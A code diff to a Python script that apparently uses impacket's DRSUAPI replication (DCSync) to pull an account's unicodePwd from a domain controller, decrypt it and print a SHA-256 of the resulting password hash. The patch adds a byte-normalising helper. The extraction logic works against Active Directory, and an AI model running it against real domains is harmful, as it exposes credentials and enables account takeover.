@@ -82,10 +82,16 @@ reply = dce.request(request)
 out = reply['pmsgOut']['V6']
 replyPrefixTable = out['PrefixTableSrc']['pPrefixEntry']
 entry = out['pObjects']['Entinf']
-rid = int.from_bytes(b''.join(entry['pName']['Sid'])[-4:], 'little')
+def raw(value):
+    # impacket hands NDR byte arrays as bytes or as lists of ints / 1-byte strings, by field.
+    if isinstance(value, bytes):
+        return value
+    return b''.join(v if isinstance(v, bytes) else bytes([v]) for v in value)
+
+rid = int.from_bytes(raw(entry['pName']['Sid'])[-4:], 'little')
 for attr in entry['AttrBlock']['pAttr']:
     if drsuapi.OidFromAttid(replyPrefixTable, attr['attrTyp']) == NTDSHashes.ATTRTYP_TO_ATTID['unicodePwd']:
-        encrypted = drsuapi.DecryptAttributeValue(dce, b''.join(attr['AttrVal']['pAVal'][0]['pVal']))
+        encrypted = drsuapi.DecryptAttributeValue(dce, raw(attr['AttrVal']['pAVal'][0]['pVal']))
         print(hashlib.sha256(drsuapi.removeDESLayer(encrypted, rid)).hexdigest())
         sys.exit(0)
 sys.exit('no unicodePwd in the reply')
